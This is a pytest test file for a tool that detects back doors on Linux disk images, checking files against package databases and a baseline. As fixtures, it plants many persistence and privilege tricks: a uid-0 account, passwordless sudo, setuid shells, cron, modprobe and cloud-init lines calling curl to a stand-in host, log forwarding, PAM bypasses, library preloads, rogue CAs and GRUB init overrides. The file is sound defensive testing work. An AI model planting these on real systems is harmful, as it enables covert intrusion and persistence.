"""Back doors on a disk: each one planted is found, and a system as its packages have it is clean."""

import gzip
import hashlib
import shutil
import sqlite3
import struct
import subprocess
from dataclasses import dataclass, field
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline.report.evidence import Finding, Result, Status
from pipeline.residue import rpm
from pipeline.residue.back_doors import SUBJECTS, prove_back_doors
from pipeline.residue.blocks import RawFile
from pipeline.residue.kernel import read_ram_disk
from pipeline.residue.locate import Locator
from pipeline.residue.origin import Written, digest_of
from pipeline.residue.sift import Allowed
from pipeline.residue.system import System, find_systems
from pipeline.spec import Forbidden, Waiver

CERTIFICATE = "-----BEGIN CERTIFICATE-----\n{}\n-----END CERTIFICATE-----\n"
CAPABILITY = bytes.fromhex("0100000200200000000000000000000000000000")
ELF = b"\x7fELF" + bytes(60)
KERNEL = "6.1.0-9-cloud-amd64"


def cpio(files: dict[str, bytes]) -> bytes:
    """An archive as initial RAM disks have it."""
    archive = b""
    for number, (name, content) in enumerate({**files, "TRAILER!!!": b""}.items(), 1):
        mode = 0 if name == "TRAILER!!!" else 0o100755
        fields = (number, mode, 0, 0, 1, 0, len(content), 0, 0, 0, 0, len(name) + 1, 0)
        entry = b"070701" + b"".join(b"%08X" % value for value in fields) + name.encode() + b"\0"
        archive += entry.ljust(-(-len(entry) // 4) * 4, b"\0") + content.ljust(-(-len(content) // 4) * 4, b"\0")
    return archive


PACKAGED: dict[str, bytes] = {
    "usr/bin/true": ELF + b"true",
    "usr/bin/passwd": ELF + b"passwd",
    "usr/bin/ping": ELF + b"ping",
    "usr/lib/x86_64-linux-gnu/libc.so.6": ELF + b"libc",
    "usr/lib/x86_64-linux-gnu/security/pam_unix.so": ELF + b"pam",
    "usr/lib/systemd/system/cron.service": b"[Service]\nExecStart=/usr/sbin/cron\n",
    "usr/lib/python3/dist-packages/tool.py": b"print()\n",
    "usr/share/base-files/profile": b"umask 022\n",
    "usr/share/ca-certificates/good.crt": CERTIFICATE.format("Z29vZA==").encode(),
    "usr/share/keyrings/debian.gpg": b"keyring",
    f"usr/lib/modules/{KERNEL}/kernel/ext4.ko": ELF + b"ext4",
    "usr/lib/shim/shimx64.efi.signed": b"MZ shim",
    f"boot/vmlinuz-{KERNEL}": b"kernel",
}
SETTINGS: dict[str, bytes] = {
    "etc/sudoers": b"Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n",
    "etc/cron.d/job": b"@daily root true\n",
    "etc/pam.d/sshd": b"@include common-auth\n",
    "etc/ssh/sshd_config": b"UsePAM yes\n",
    "etc/ld.so.conf": b"include /etc/ld.so.conf.d/*.conf\n",
}
GRUB = """set default="{default}"
menuentry 'Debian' --class debian {{
\tlinux\t/boot/vmlinuz root=UUID=1 ro{first}
}}
submenu 'Advanced options for Debian' {{
\tmenuentry 'Debian, with Linux 6.1 (recovery mode)' --class debian {{
\t\tlinux\t/boot/vmlinuz root=UUID=1 ro single console=ttyS0{recovery}
\t}}
\tmenuentry 'Debian, with Linux 6.0' --class debian {{
\t\tlinux\t/boot/vmlinuz root=UUID=1 ro{second}
\t}}
}}
"""


SETUP_FONT = rb"""#!/bin/sh

setfont '/usr/share/consolefonts/Uni2-Fixed16.psf.gz' 

if ls /dev/fb* >/dev/null 2>/dev/null; then
    for i in /dev/vcs[0-9]*; do
        { :
            setfont '/usr/share/consolefonts/Uni2-Fixed16.psf.gz' 
        } < /dev/tty${i#/dev/vcs} > /dev/tty${i#/dev/vcs}
    done
fi

mkdir -p /run/console-setup
> /run/console-setup/font-loaded
"""  # noqa: W291 - as setupcon writes it
SETUP_KEYBOARD = rb"""#!/bin/sh

if [ -f /run/console-setup/keymap_loaded ]; then
    rm /run/console-setup/keymap_loaded
    exit 0
fi
kbd_mode '-u' < '/dev/tty1' 
kbd_mode '-u' < '/dev/tty2' 
loadkeys '/etc/console-setup/cached_UTF-8_del.kmap.gz' > '/dev/null' 
"""  # noqa: W291
SETUP_TERMINAL = rb"""#!/bin/sh

{ :
printf '\033%%G' 
} < /dev/tty${1#vcs} > /dev/tty${1#vcs}
"""  # noqa: W291


def grub(default: str = "0", first: str = "", recovery: str = "", second: str = "") -> bytes:
    return GRUB.format(default=default, first=first, recovery=recovery, second=second).encode()


CLEAN: dict[str, bytes] = {
    "etc/passwd": b"root:x:0:0:root:/root:/bin/bash\nadmin:x:1000:1000::/home/admin:/bin/bash\n",
    "etc/shadow": b"root:*:19000:0:99999:7:::\nadmin:!:19000:0:99999:7:::\n",
    "etc/group": b"root:x:0:\nsudo:x:27:admin\ndisk:x:6:\n",
    "etc/os-release": b"ID=debian\n",
    "etc/profile": PACKAGED["usr/share/base-files/profile"],
    "etc/environment": b'# as Ubuntu has it\nPATH="/usr/local/sbin:/usr/bin:/sbin:/usr/local/games:/snap/bin"\n\n',
    "etc/pam.d/common-auth": b"auth [success=1 default=ignore] pam_unix.so nullok\nauth requisite pam_deny.so\n",
    "etc/ssl/certs/ca-certificates.crt": CERTIFICATE.format("Z29vZA==").encode(),
    "etc/cloud/cloud.cfg.d/01.cfg": b"cloud_init_modules:\n  - bootcmd\n  - runcmd\n",
    "etc/apt/apt.conf.d/20auto": b'APT::Periodic::Unattended-Upgrade "1";\n',
    "etc/sudoers.d/10-ours": b"alice ALL=(ALL:ALL) NOPASSWD: ALL\n",
    "etc/default/grub": b'GRUB_CMDLINE_LINUX="console=ttyS0 init=/usr/lib/systemd/systemd"\n',
    f"usr/lib/modules/{KERNEL}/modules.dep": b"made\n",
    f"boot/initrd.img-{KERNEL}": cpio({"kernel/x86/microcode/x.bin": b"code"})
    + bytes(64)
    + gzip.compress(
        cpio(
            {
                "usr/bin/true": PACKAGED["usr/bin/true"],
                "conf/arch.conf": b"DPKG_ARCH=amd64\n",
                "etc/dhcpcd.conf": b"persistent\n",
                "etc/initiatorname.iscsi": b"InitiatorName=iqn.2004-10.com.ubuntu:01:3a1c\n",
                "etc/mdadm/mdadm.conf": b"HOMEHOST <system>\n",
                ".random-seed": b"random",
            }
        )
    ),
    "boot/grub/grub.cfg": grub(),
    "etc/console-setup/cached_setup_font.sh": SETUP_FONT,
    "etc/console-setup/cached_setup_terminal.sh": SETUP_TERMINAL,
    "etc/console-setup/cached_setup_keyboard.sh": SETUP_KEYBOARD,
    "var/lib/dpkg/info/good.list": b"/.\n",
    "var/lib/dpkg/info/good.postinst": b"#!/bin/sh\n",
}
WRITTEN: Written = frozenset({("/etc/sudoers.d/10-ours", digest_of(CLEAN["etc/sudoers.d/10-ours"]))})


@dataclass(frozen=True)
class Plant:
    """A back door: what it puts where, and the control that it breaks."""

    control: str
    path: str
    content: bytes
    mode: int = 0o644
    capability: bytes = b""
    link: str = ""


PLANTS = (
    Plant("V02", "etc/passwd", CLEAN["etc/passwd"] + b"toor:x:0:0::/root:/bin/sh\n"),
    Plant("H14", "etc/shadow", CLEAN["etc/shadow"] + b"guest::19000:0:99999:7:::\n"),
    Plant("V02", "etc/group", b"root:x:0:\ndisk:x:6:admin\n"),
    Plant("V02", "etc/sudoers.d/90-eve", b"eve ALL=(ALL) \\\n NOPASSWD: ALL\n"),
    Plant("V02", "etc/sudoers.d/91-eve", b"eve ALL=(ALL) ALL\n"),
    Plant("V02", "etc/polkit-1/rules.d/49-eve.rules", b"polkit.addRule(function() { return 'yes' })\n"),
    Plant("V03", "usr/bin/find", ELF + b"find", mode=0o4755),
    Plant("V03", "usr/bin/true", PACKAGED["usr/bin/true"], mode=0o4755),
    Plant("V03", "var/tmp/.x", ELF + b"shell", mode=0o6755),
    Plant("V03", "usr/bin/python", ELF + b"python", mode=0o755, capability=CAPABILITY),
    Plant("V04", "etc/cron.d/beacon", b"* * * * * root curl http://192.0.2.1\n"),
    Plant("V04", "var/spool/cron/crontabs/root", b"* * * * * true\n", mode=0o600),
    Plant("V04", "etc/systemd/system/beacon.service", b"[Service]\nExecStart=/usr/bin/true\n"),
    Plant("V04", "etc/systemd/system/ssh.service.d/more.conf", b"[Service]\nExecStartPre=/usr/bin/true\n"),
    Plant("V04", "etc/systemd/system/multi-user.target.wants/x.service", b"", link="/srv/x.service"),
    Plant("V04", "etc/rc.local", b"#!/bin/sh\ntrue\n", mode=0o755),
    Plant("V04", "etc/profile.d/zz.sh", b"true &\n"),
    Plant("V04", "etc/environment", b'PATH="/usr/bin:/tmp/bin:/bin"\n'),
    Plant("V04", "etc/environment", b'PATH="/usr/bin:/bin"\nLD_PRELOAD=/usr/lib/libeve.so\n'),
    Plant("V04", "root/.bashrc", b"alias sudo=/tmp/sudo\n"),
    Plant("V04", "etc/apt/apt.conf.d/99x", b'DPkg::Post-Invoke { "true"; };\n'),
    Plant("V04", "etc/udev/rules.d/99-x.rules", b'ACTION=="add", RUN+="/usr/bin/true"\n'),
    Plant("V04", "etc/modprobe.d/x.conf", b"install usb-storage /usr/bin/curl http://192.0.2.1\n"),
    Plant("V04", "etc/cloud/cloud.cfg.d/99.cfg", b"runcmd:\n  - [curl, 192.0.2.1]\n"),
    Plant("V04", "etc/initramfs-tools/hooks/x", b"#!/bin/sh\ntrue\n", mode=0o755),
    Plant("V05", "etc/ld.so.preload", b"/usr/lib/libx.so\n"),
    Plant("V05", "etc/pam.d/common-auth", b"auth sufficient pam_permit.so\n"),
    Plant("V05", "etc/pam.d/sshd", b"auth optional pam_exec.so /tmp/x\n"),
    Plant("V05", "usr/lib/x86_64-linux-gnu/security/pam_unix.so", ELF + b"pam, and a password of its own"),
    Plant("V05", "usr/lib/x86_64-linux-gnu/security/pam_eve.so", ELF + b"eve"),
    Plant("V05", "usr/lib/x86_64-linux-gnu/libc.so.6", ELF + b"libc, changed"),
    Plant("V08", "usr/local/bin/helper", b"#!/bin/sh\ntrue\n", mode=0o755),
    Plant("V08", "usr/lib/x86_64-linux-gnu/libeve.so.1", ELF + b"library"),
    Plant("V08", "etc/console-setup/cached_setup_font.sh", SETUP_FONT + b"/tmp/x\n", mode=0o755),
    Plant(
        "V08",
        "etc/console-setup/cached_setup_keyboard.sh",
        b"#!/bin/sh\nloadkeys '/tmp/cached_x' > '/dev/null'\n",
        mode=0o755,
    ),
    Plant("V08", "opt/thing/run", ELF + b"thing", mode=0o755),
    Plant("V08", "usr/lib/python3/dist-packages/__pycache__/eve.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12)),
    Plant("V08", "usr/lib/python3/dist-packages/__pycache__/tool.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12)),
    Plant("V08", "var/lib/dpkg/info/bad.postinst", b"#!/bin/sh\ntrue\n", mode=0o755),
    Plant("V01", "etc/apt/trusted.gpg.d/eve.gpg", b"another keyring"),
    Plant("V01", "etc/ssh/sshd_config.d/eve.conf", b"TrustedUserCAKeys /etc/ssh/ca.pub\n"),
    Plant("V01", "etc/ssh/sshd_config", b"AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/more\n"),
    Plant("V01", "root/.rhosts", b"+ +\n"),
    Plant(
        "V06",
        "etc/ssl/certs/ca-certificates.crt",
        CERTIFICATE.format("Z29vZA==").encode() + CERTIFICATE.format("ZXZpbA==").encode(),
    ),
    Plant("V06", "usr/local/share/ca-certificates/eve.crt", CERTIFICATE.format("ZXZpbA==").encode()),
    Plant("V07", "etc/rsyslog.d/eve.conf", b"*.* @@192.0.2.1:514\n"),
    Plant("V07", "etc/systemd/journal-upload.conf", b"[Upload]\nURL=https://192.0.2.1\n"),
    Plant("V09", f"usr/lib/modules/{KERNEL}/extra/eve.ko", ELF + b"rootkit"),
    Plant("V09", f"usr/lib/modules/{KERNEL}/kernel/ext4.ko", ELF + b"ext4, and a rootkit"),
    Plant("V09", "boot/vmlinuz-eve", b"another kernel"),
    Plant("V09", f"boot/initrd.img-{KERNEL}", gzip.compress(cpio({"init": b"#!/bin/sh\nrootkit\n"}))),
    Plant("V09", "boot/initrd.img-cut", cpio({"init": b"x"})[:-150]),
    Plant("V09", "boot/grub/i386-pc/eve.mod", ELF + b"eve"),
    Plant("V09", "boot/grub/grub.cfg", b"linux /boot/vmlinuz ro init=/usr/local/sbin/eve\n"),
    Plant("V09", "boot/grub/grub.cfg", grub(default="1>0")),
    Plant("V09", "boot/grub/grub.cfg", grub(first=" single ")),
    Plant("V09", "boot/grub/grub.cfg", grub(second=" single ")),
    Plant("V09", "boot/grub/grub.cfg", grub(recovery=" init=/usr/local/sbin/eve")),
)


@dataclass
class Small:
    """A small system on an ext4 file system."""

    folder: Path
    plants: tuple[Plant, ...] = ()
    files: dict[str, tuple[bytes, int]] = field(default_factory=dict)

    def make(self) -> Path:
        tree, disk = self.folder / "tree", self.folder / "disk.raw"
        for path, content in {**PACKAGED, **SETTINGS, **CLEAN, **self.database()}.items():
            self.put(tree, path, content, 0o755 if content.startswith((ELF[:4], b"#!")) else 0o644)
        (tree / "usr/bin/passwd").chmod(0o4755)
        for plant in self.plants:
            self.put(tree, plant.path, plant.content, plant.mode, plant.link)
        with disk.open("wb") as file:
            file.truncate(32 << 20)
        run("/sbin/mke2fs", "-q", "-t", "ext4", "-d", tree, disk)
        capability = self.folder / "capability"
        capability.write_bytes(CAPABILITY)
        for path in ["/usr/bin/ping", *("/" + plant.path for plant in self.plants if plant.capability)]:
            run("/sbin/debugfs", "-w", "-R", f"ea_set -f {capability} {path} security.capability", disk)
        return disk

    def database(self) -> dict[str, bytes]:
        sums = "".join(f"{md5(content)}  {path}\n" for path, content in PACKAGED.items())
        settings = "".join(f" /{path} {md5(content)}\n" for path, content in SETTINGS.items())
        return {
            "var/lib/dpkg/info/good.md5sums": sums.encode(),
            "var/lib/dpkg/status": f"Package: good\nStatus: install ok installed\nConffiles:\n{settings}\n".encode(),
        }

    def put(self, tree: Path, path: str, content: bytes, mode: int, link: str = "") -> None:
        target = tree / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.unlink(missing_ok=True)
        if link:
            self.put(tree, link[1:], b"[Service]\nExecStart=/usr/bin/true\n", 0o644)
            target.symlink_to(link)
            return
        target.write_bytes(content)
        target.chmod(mode)


def md5(content: bytes) -> str:
    return hashlib.md5(content, usedforsecurity=False).hexdigest()


def run(*command: str | Path) -> None:
    subprocess.run([str(part) for part in command], check=True, capture_output=True)


def prove(disk: Path, allowed: Allowed | None = None) -> tuple[tuple[Result, ...], tuple[Finding, ...]]:
    with RawFile(disk) as source:
        return prove_back_doors(Locator(source), allowed or Allowed(), WRITTEN)


@pytest.fixture(scope="module")
def clean(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return Small(tmp_path_factory.mktemp("clean")).make()


@pytest.fixture(scope="module")
def planted(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Finding, ...]]:
    """The findings on disks with all plants: of those at one path, one is on each disk."""
    found, waiting = {}, list(PLANTS)
    while waiting:
        together = {plant.path: plant for plant in reversed(waiting)}
        disk = Small(tmp_path_factory.mktemp("planted"), tuple(together.values())).make()
        found |= {str(PLANTS.index(plant)): prove(disk)[1] for plant in together.values()}
        waiting = [plant for plant in waiting if plant not in together.values()]
    return found


@pytest.mark.subprocess
def test_a_system_as_its_packages_have_it_is_clean(clean: Path) -> None:
    results, findings = prove(clean)
    assert findings == ()
    assert {result.status for result in results} == {Status.PASS}
    proved = {control for result in results for control in result.controls}
    assert {f"V0{number}" for number in range(1, 10)} <= proved


@pytest.mark.subprocess
@pytest.mark.parametrize("plant", PLANTS, ids=lambda plant: f"{plant.control} {plant.path}")
def test_a_back_door_is_found(plant: Plant, planted: dict[str, tuple[Finding, ...]]) -> None:
    found = {(finding.control, finding.place) for finding in planted[str(PLANTS.index(plant))]}
    assert (plant.control, f"file /{plant.path}") in found


@pytest.mark.subprocess
def test_what_is_found_can_be_waived_as_it_is_and_not_otherwise(tmp_path: Path) -> None:
    disk = Small(tmp_path, (PLANTS[3],)).make()
    (finding,) = prove(disk)[1]
    waiver = Waiver(fingerprint=finding.fingerprint, reason="eve is on call", expires=date.today() + timedelta(1))
    assert prove(disk, Allowed(waivers=(waiver,)))[1] == ()
    other = Small(tmp_path / "other", (Plant("V02", PLANTS[3].path, PLANTS[3].content + b"\n"),)).make()
    assert len(prove(other, Allowed(waivers=(waiver,)))[1]) == 1


@pytest.mark.subprocess
def test_a_system_without_a_package_database_is_unreachable(tmp_path: Path) -> None:
    small = Small(tmp_path)
    small.database = dict  # type: ignore[method-assign]
    results, findings = prove(small.make())
    assert {result.status for result in results} == {Status.UNREACHABLE}
    assert findings == ()


@pytest.mark.subprocess
def test_a_disk_without_a_system_has_no_back_door(tmp_path: Path) -> None:
    disk = tmp_path / "data"
    with disk.open("wb") as file:
        file.truncate(8 << 20)
    run("/sbin/mke2fs", "-q", "-t", "ext4", disk)
    results, _ = prove(disk)
    assert {result.status for result in results} == {Status.NOT_APPLICABLE}
    assert len(results) == len(SUBJECTS)


@pytest.mark.subprocess
def test_what_cannot_be_read_never_passes(clean: Path, tmp_path: Path) -> None:
    disk = tmp_path / "damaged"
    shutil.copy(clean, disk)
    run("/sbin/debugfs", "-w", "-R", "set_inode_field /usr/bin/true block[0] 0", disk)
    results, _ = prove(disk)
    assert Status.PASS not in {result.status for result in results}


@pytest.mark.subprocess
def test_paths_are_followed_over_links(tmp_path: Path) -> None:
    plants = (Plant("", "a/b/link", b"", link="/usr/bin/x"), Plant("", "round", b"", link="/round"))
    small = Small(tmp_path, plants[:1])
    with RawFile(small.make()) as source:
        (system,) = find_systems(Locator(source))
        assert system.resolve("/a/../a/b/./link") == "/usr/bin/x"
        assert system.find("/a/b/nothing") is None
        assert isinstance(system, System)


CHANGES = {
    "usr/share/tool/data": b"anything\n",
    "etc/nsswitch.conf": b"passwd: files eve\n",
    "root/notes": b"to do\n",
    "home/admin/.profile": b"alias ls=rm\n",
}
EXPLAINED = {
    "etc/audit/audit.rules.prev": b"-D\n",
    "etc/console-setup/cached_setup_keyboard.sh": SETUP_KEYBOARD.replace(b" < '/dev/tty1'", b""),
    "etc/iscsi/initiatorname.iscsi": b"GenerateName=yes\n",
    "snap/README": b"what snap is\n",
    "etc/passwd": CLEAN["etc/passwd"] + b"alice:x:1001:1001::/home/alice:/bin/bash\n",
    "etc/sudoers.d/10-ours": CLEAN["etc/sudoers.d/10-ours"],
    "var/lib/thing/state": b"1",
    "home/alice/.ssh/authorized_keys": b"ssh-ed25519 AAAA alice\n",
    "usr/share/base-files/copy": PACKAGED["usr/share/base-files/profile"],
    "srv/site/index.html": b"kept\n",
}


@pytest.mark.subprocess
def test_every_change_of_the_base_is_explained_or_found(clean: Path, tmp_path: Path) -> None:
    changes = tuple(Plant("V10", path, content) for path, content in {**CHANGES, **EXPLAINED}.items())
    strange_link = Plant("", "usr/bin/wall", b"", link="/srv/site/run")
    newest = Plant("", "initrd.img", b"", link="/boot/initrd.img-new")
    disk = Small(tmp_path, (*changes, strange_link, newest)).make()
    with RawFile(disk) as source, RawFile(clean) as before:
        allowed = Allowed(kept_files=("/srv/site",))
        results, findings = prove_back_doors(Locator(source), allowed, WRITTEN, Locator(before))
    found = {finding.place for finding in findings if finding.control == "V10"}
    assert found == {f"file /{path}" for path in (*CHANGES, "usr/bin/wall")}
    assert results[-1].controls == ("V10",)
    assert results[-1].status is Status.FAIL


SETTING = b"# for all\nPROXY=http://joe:pa55word@proxy.example/\nexport API_KEY=0123456789\nUMASK=027\n"


@pytest.mark.subprocess
@pytest.mark.parametrize(
    ("after", "explained"),
    [
        (b"# for all\nPROXY=http://proxy.example/\nUMASK=027\n", True),
        (b"# for all\nPROXY=http://joe:pa55word@proxy.example/\nUMASK=027\n", False),
        (b"# for all\nPROXY=http://proxy.example/\n", False),
        (b"# for all\nPROXY=http://proxy.example/\nUMASK=027\nalias ls=rm\n", False),
        (b"# for all\nPROXY=http://other.example/\nUMASK=027\n", False),
    ],
)
def test_a_setting_may_lose_its_credentials_and_nothing_else(tmp_path: Path, after: bytes, explained: bool) -> None:
    disks = []
    for name, content in (("before", SETTING), ("after", after)):
        (tmp_path / name).mkdir()
        disks.append(Small(tmp_path / name, (Plant("V10", "etc/default/thing", content),)).make())
    with RawFile(disks[1]) as source, RawFile(disks[0]) as before:
        _, findings = prove_back_doors(Locator(source), Allowed(), frozenset(), Locator(before))
    assert [finding.place for finding in findings if finding.control == "V10"] == (
        [] if explained else ["file /etc/default/thing"]
    )


@pytest.mark.subprocess
def test_the_base_itself_has_no_difference(clean: Path) -> None:
    with RawFile(clean) as source, RawFile(clean) as before:
        results, findings = prove_back_doors(Locator(source), Allowed(), frozenset(), Locator(before))
    assert (results[-1].controls, results[-1].status) == (("V10",), Status.PASS)
    assert {finding.control for finding in findings} == {"V02"}


@pytest.mark.subprocess
def test_a_base_that_cannot_be_read_never_passes(clean: Path, tmp_path: Path) -> None:
    (tmp_path / "nothing").write_bytes(b"x" * (1 << 20))
    with RawFile(clean) as source, RawFile(tmp_path / "nothing") as before:
        results, _ = prove_back_doors(Locator(source), Allowed(), WRITTEN, Locator(before))
    assert {result.status for result in results} == {Status.UNREACHABLE}


def with_efi(small: Small, files: dict[str, bytes]) -> Path:
    """A disk with a small system, and an EFI system partition that its fstab mounts."""
    system, efi, disk = small.make(), small.folder / "efi", small.folder / "both.raw"
    with efi.open("wb") as file:
        file.truncate(4 << 20)
    run("/sbin/mkfs.vfat", "-i", "1A2B3C4D", efi)
    run("mmd", "-i", efi, "::EFI", "::EFI/debian")
    for name, content in files.items():
        (small.folder / "source").write_bytes(content)
        run("mcopy", "-i", efi, small.folder / "source", f"::EFI/debian/{name}")
    with disk.open("wb") as file:
        file.truncate(39 << 20)
    table = "label: gpt\nunit: sectors\nstart=2048, size=8192, type=U\nstart=10240, size=65536, type=L\n"
    subprocess.run(["/sbin/sfdisk", "-q", disk], input=table, text=True, check=True, capture_output=True)
    for part, start in ((efi, 1), (system, 5)):
        run("dd", f"if={part}", f"of={disk}", "bs=1M", f"seek={start}", "conv=notrunc,sparse")
    return disk


@pytest.mark.subprocess
@pytest.mark.skipif(not shutil.which("mcopy"), reason="mtools is not installed")
def test_what_boots_first_is_a_package_s_copy_or_as_it_was(tmp_path: Path) -> None:
    before = {"made.efi": b"MZ made by grub-install", "shimx64.efi": b"MZ older shim", "grub.cfg": b"configfile x\n"}
    changes = {"shimx64.efi": PACKAGED["usr/lib/shim/shimx64.efi.signed"], "grub.cfg": b"configfile y\n"}
    evil = {
        "made.efi": b"MZ made by somebody",
        "grub.cfg": b"linux /vmlinuz ro init=/bin/evil\n",
        "vmlinuz": b"own kernel",
    }
    findings = {}
    for name, files in (("base", before), ("built", before | changes), ("evil", before | evil)):
        (tmp_path / name).mkdir()
        mounted = Plant("", "etc/fstab", b"UUID=1A2B-3C4D /boot/efi vfat umask=0077 0 1\n")
        disk = with_efi(Small(tmp_path / name, (mounted,)), files)
        with RawFile(disk) as source, RawFile(tmp_path / "base/both.raw") as base:
            results, found = prove_back_doors(Locator(source), Allowed(), WRITTEN, Locator(base))
        assert Status.UNREACHABLE not in {result.status for result in results}
        findings[name] = {(finding.control, finding.place.rpartition("/")[2]) for finding in found}
    assert findings["base"] == findings["built"] == set()
    assert findings["evil"] == {("V10", "made.efi"), ("V09", "grub.cfg"), ("V09", "vmlinuz"), ("V10", "vmlinuz")}


FORBID = (
    Forbidden(
        reason="the vendor's licence is ours alone", paths=("/opt/vendor*/keys", "/srv/*.key"), packages=("good",)
    ),
    Forbidden(reason="nobody may have it", packages=("missing",)),
)


@pytest.mark.subprocess
def test_what_the_spec_forbids_is_found_whosever_it_is(clean: Path, tmp_path: Path) -> None:
    plants = [
        Plant("S23", path, b"x") for path in ("opt/vendor-1/keys/a", "srv/a.key", "srv/deeper/b.key", "opt/vendor/x")
    ]
    results, findings = prove(Small(tmp_path, tuple(plants)).make(), Allowed(forbidden=FORBID))
    found = {finding.place for finding in findings if finding.control == "S23"}
    assert found == {"file /opt/vendor-1/keys", "file /opt/vendor-1/keys/a", "file /srv/a.key", "file good"}
    assert {result.status for result in results if result.controls == ("S23",)} == {Status.FAIL}
    results, _ = prove(clean, Allowed(forbidden=FORBID[1:]))
    assert {result.status for result in results if result.controls == ("S23",)} == {Status.PASS}
    assert not any(result.controls == ("S23",) for result in prove(clean)[0])


def rpm_header(strings: dict[int, list[str]], numbers: dict[int, list[int]]) -> bytes:
    """A header as rpm's database keeps it."""
    index, data = b"", b""
    for tag, texts in strings.items():
        index += struct.pack(">IIII", tag, 8, len(data), len(texts))
        data += b"".join(text.encode() + b"\0" for text in texts)
    for tag, values in numbers.items():
        data = data.ljust(-(-len(data) // 4) * 4, b"\0")
        index += struct.pack(">IIII", tag, 4, len(data), len(values))
        data += struct.pack(f">{len(values)}I", *values)
    return struct.pack(">II", len(index) // 16, len(data)) + index + data


def rpm_database(*headers: bytes) -> bytes:
    with sqlite3.connect(":memory:") as connection:
        connection.execute("CREATE TABLE Packages (hnum INTEGER PRIMARY KEY, blob BLOB NOT NULL)")
        connection.executemany("INSERT INTO Packages (blob) VALUES (?)", [(header,) for header in headers])
        connection.commit()
        return connection.serialize()


HEADER = rpm_header(
    {1118: ["/usr/bin/", "/etc/"], 1117: ["tool", "tool.conf"], 1035: ["a" * 64, "b" * 64]},
    {1116: [0, 1], 1030: [0o100755, 0o100644], 1037: [0, 1]},
)


def test_files_of_rpm_are_read() -> None:
    assert list(rpm.read_files(rpm_database(HEADER))) == [
        rpm.PackagedFile("/usr/bin/tool", "a" * 64, 0o100755, False),
        rpm.PackagedFile("/etc/tool.conf", "b" * 64, 0o100644, True),
    ]


def test_what_is_no_database_of_rpm_is_refused() -> None:
    with pytest.raises(ValueError, match="cannot be read"):
        list(rpm.read_files(b"SQLite format 3\0" + bytes(200)))


@given(st.lists(st.tuples(st.integers(0, len(HEADER) - 1), st.integers(0, 255)), max_size=9), st.integers(0, 400))
def test_a_damaged_header_of_rpm_is_read_or_refused(changes: list[tuple[int, int]], cut: int) -> None:
    bad = bytearray(HEADER)
    for place, value in changes:
        bad[place] = value
    try:
        list(rpm.files_of(bytes(bad[: len(bad) - cut])))
    except ValueError:
        return


ARCHIVE = cpio({"init": b"#!/bin/sh\n", "bin/true": ELF})


@given(st.lists(st.tuples(st.integers(0, len(ARCHIVE) - 1), st.integers(0, 255)), max_size=9), st.integers(0, 300))
def test_a_damaged_ram_disk_is_read_or_refused(changes: list[tuple[int, int]], cut: int) -> None:
    bad = bytearray(ARCHIVE)
    for place, value in changes:
        bad[place] = value
    try:
        list(read_ram_disk([bytes(bad[: len(bad) - cut])]))
    except ValueError:
        return


PACKED = cpio({"kernel/x": b"early"}) + bytes(100) + gzip.compress(ARCHIVE)


@given(st.integers(1, 700))
def test_a_ram_disk_is_read_through_its_archives_and_compression(piece: int) -> None:
    pieces = [PACKED[start : start + piece] for start in range(0, len(PACKED), piece)]
    assert [(file.path, b"".join(file.content)[:4]) for file in read_ram_disk(pieces)] == [
        ("kernel/x", b"earl"),
        ("init", b"#!/b"),
        ("bin/true", b"\x7fELF"),
    ]
    assert [file.size for file in read_ram_disk(pieces)] == [5, 10, len(ELF)]


def test_what_is_packed_into_a_ram_disk_and_is_no_archive_is_refused() -> None:
    for data in (gzip.compress(b"text"), PACKED[:-300], PACKED[:120], b"#!/bin/sh"):
        with pytest.raises(ValueError, match=r"archive|compression"):
            list(read_ram_disk([data]))
